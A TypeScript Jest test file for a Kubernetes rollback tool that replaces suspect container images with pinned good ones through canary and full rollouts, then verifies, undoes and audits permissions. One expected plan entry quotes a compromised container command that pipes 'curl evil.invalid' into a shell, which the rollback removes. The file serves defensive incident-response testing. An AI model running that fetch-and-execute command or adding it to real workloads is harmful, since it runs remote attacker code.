import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { RollbackKind } from '../../activities/kubernetes/workload/kinds.ts';
import { templateOf } from '../../activities/kubernetes/workload/kinds.ts';
import { resources, type KubernetesObject } from '../../activities/kubernetes/resources.ts';
import { requestsBy } from '../support/audit-log.ts';
import { kubernetesPermissionsUsed } from '../support/permissions-used.ts';
import { collectionOf, createNamespace, engineUser } from '../support/quarantine-house.ts';
import {
  deployed,
  good,
  openRollbackHouse,
  pinned,
  Subject,
  suspect,
  suspectImage,
  type RollbackHouse,
} from '../support/rollback-house.ts';

let house: RollbackHouse;
beforeAll(async () => {
  house = await openRollbackHouse();
}, 120_000);
afterAll(async () => {
  await house.close();
}, 30_000);

/** Asks again and again how many pods run something while `work` goes on. */
async function mostOf<T>(
  subject: Subject,
  image: string,
  work: Promise<T>,
): Promise<{ most: number; result: T }> {
  let most = 0;
  const over = new AbortController();
  const watching = (async () => {
    while (!over.signal.aborted)
      most = Math.max(most, (await subject.running()).filter((one) => one === image).length);
  })();
  try {
    return { result: await work, most };
  } finally {
    over.abort();
    await watching;
  }
}

test.each<[RollbackKind]>([['Deployment'], ['StatefulSet'], ['DaemonSet']])(
  'a %s: exactly one pod is tried and held, then the others follow; each digest is compared, and the undo restores all',
  async (kind) => {
    const { subject, to } = await deployed(house, kind, `whole-${kind.toLowerCase()}`);
    const before = await subject.read();
    const early = await subject.plan(house.workload, to);
    const tried = await subject.plan(house.canary, to);
    expect(tried.plan.changes.map(({ summary }) => summary)).toEqual([
      `image of init: shop.example/init:1 → ${pinned.init}`,
      `image of app: shop.example/app:2 → ${pinned.app}`,
      'spec.containers[app].command: ["sh","-c","curl evil.invalid | sh"] → none',
      expect.stringMatching(/^spec\.containers\[app\]\.env: .*sha256:[0-9a-f]{12}….* → none$/),
    ]);
    expect(JSON.stringify(tried.plan)).not.toContain('hunter22');
    expect(new TextDecoder().decode(await house.evidence.get(tried.plan.full))).not.toContain('hunter22');

    const { most, result: applied } = await mostOf(
      subject,
      pinned.app,
      house.canary.apply(subject.context(), tried.mandate),
    );
    expect(most).toBe(1);
    const size = kind === 'Deployment' ? 4 : 3;
    const held = [...Array<string>(size - 1).fill(suspectImage), pinned.app].toSorted();
    expect(await subject.running()).toEqual(held);
    expect(applied.outputs).toMatchObject({ podCount: 1, pods: [expect.stringContaining('web')] });
    const seen = await house.canary.verify(subject.context(), tried.mandate);
    expect(seen.claims.map(({ verdict }) => verdict)).toEqual([
      'verified',
      'verified',
      'verified',
      'verified',
    ]);
    expect(seen.state).toBe('in-place');
    if (kind === 'Deployment') expect((await subject.read()).spec?.paused).toBe(true);

    const again = await subject.plan(house.workload, to);
    expect(again.plan.authority).toEqual(early.plan.authority);
    const gone = await house.workload.apply(subject.context(), again.mandate);
    expect(gone.outputs).toMatchObject({ podCount: 3 });
    expect(await subject.running()).toEqual([pinned.app, pinned.app, pinned.app]);
    const all = await house.workload.verify(subject.context(), again.mandate);
    expect(all.claims.map(({ verdict }) => verdict)).toEqual([
      'verified',
      'verified',
      'verified',
      'verified',
    ]);
    expect(all).toMatchObject({ state: 'in-place', verdict: 'verified' });
    const after = await subject.read();
    expect({ ...after.spec, template: null }).toEqual({ ...before.spec, template: null });

    const late = await house.canary.undo(subject.context(), tried.mandate);
    expect(late).toMatchObject({
      changes: [],
      conflicts: [{ why: expect.stringContaining('rollback-workload') }],
    });
    const undone = await house.workload.undo(subject.context(), again.mandate);
    expect(undone).toMatchObject({
      conflicts: [],
      claims: [{ verdict: 'verified' }, { verdict: 'verified' }],
    });
    const restored = await subject.read();
    expect(restored.spec).toEqual(before.spec);
    expect(restored.metadata.annotations?.['firebreak.dev/rollback']).toBeUndefined();
    expect(await house.canary.undo(subject.context(), tried.mandate)).toMatchObject({
      already: 1,
      conflicts: [],
    });
    expect(templateOf(restored)).toEqual(templateOf(before));
  },
  240_000,
);

/** Of a Job whose pods never start. */
const jobOf = (spec: object) => ({
  spec: { template: { spec: { restartPolicy: 'Never', nodeSelector: { no: 'such-node' }, ...spec } } },
});

test('a CronJob: its next Jobs run the approved images, those that run are named; a canary of it is refused', async () => {
  const namespace = 'cron';
  await createNamespace(house.admin, namespace);
  const made: KubernetesObject = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'web', namespace },
    spec: { schedule: '0 0 1 1 *', jobTemplate: jobOf(suspect()) },
  };
  const { metadata } = await house.admin.create(collectionOf(made), made);
  const { uid = '' } = metadata;
  await house.admin.create(
    { group: 'batch', version: 'v1', resource: 'jobs', namespace },
    {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: {
        name: 'web-1',
        namespace,
        ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'web', uid, controller: true }],
      },
      ...jobOf(suspect()),
    },
  );
  const podsAt = { ...resources.pods, namespace };
  while ((await house.admin.list(podsAt)).items.length === 0);

  const subject = new Subject(house, 'CronJob', namespace);
  const to = await subject.inPlace(pinned);
  await expect(subject.plan(house.canary, to)).rejects.toMatchObject({
    message: expect.stringMatching(/^FB3241: .*kubernetes\.rollback-workload/),
  });
  const before = await subject.read();
  const { plan, mandate } = await subject.plan(house.workload, to);
  expect(plan.notCovered).toContainEqual(
    expect.objectContaining({ code: 'running-jobs', objects: [expect.stringMatching(/^pods\/web-1-/)] }),
  );
  await house.workload.apply(subject.context(), mandate);
  const images = templateOf(await subject.read()).spec?.containers?.map(({ image }) => image);
  expect(images).toEqual([pinned.app]);
  const { state, claims } = await house.workload.verify(subject.context(), mandate);
  expect([state, ...claims.map(({ verdict }) => verdict)]).toEqual(['in-place', 'verified', 'unverifiable']);
  expect(await house.workload.apply(subject.context(), mandate)).toMatchObject({ changes: [], already: 1 });
  expect(await house.workload.undo(subject.context(), mandate)).toMatchObject({ conflicts: [] });
  expect((await subject.read()).spec).toEqual(before.spec);
}, 60_000);

test('an ordered StatefulSet with broken pods: no canary, and they are deleted so that it goes on', async () => {
  const { subject, to } = await deployed(house, 'StatefulSet', 'broken', { of: good(), now: suspect() });
  await subject.break('web-0');
  await expect(subject.plan(house.canary, to)).rejects.toMatchObject({
    message: expect.stringMatching(/^FB3241: .*pods\/web-0 below the last one is not ready/),
  });
  const { plan, mandate } = await subject.plan(house.workload, to);
  const codes = new Map(plan.notCovered.map(({ code, objects }) => [code, objects]));
  expect(codes.get('blocking')).toEqual(['pods/web-0']);
  expect(codes.has('no-canary')).toBe(true);
  const applied = await house.workload.apply(subject.context(), mandate);
  expect(applied.changes.filter(({ verb }) => verb === 'delete').map(({ object }) => object.name)).toEqual([
    'web-0',
  ]);
  expect(await subject.running()).toEqual([pinned.app, pinned.app, pinned.app]);
  expect(await house.workload.verify(subject.context(), mandate)).toMatchObject({ verdict: 'verified' });

  // The last one is what a canary replaces anyway.
  const next = await deployed(house, 'StatefulSet', 'broken-last');
  await next.subject.break('web-2');
  const tried = await next.subject.plan(house.canary, next.to);
  await house.canary.apply(next.subject.context(), tried.mandate);
  expect(await next.subject.running()).toEqual([suspectImage, suspectImage, pinned.app]);
}, 120_000);

test('every right is used, and nothing else was asked for', async () => {
  const requests = await requestsBy(house.kubernetes.auditLogFile, engineUser);
  expect(kubernetesPermissionsUsed(house.workload, requests)).toEqual({ unused: [], undeclared: [] });
  const others = requests.filter(({ group }) => group !== 'batch');
  expect(kubernetesPermissionsUsed(house.canary, others)).toEqual({ unused: [], undeclared: [] });
});
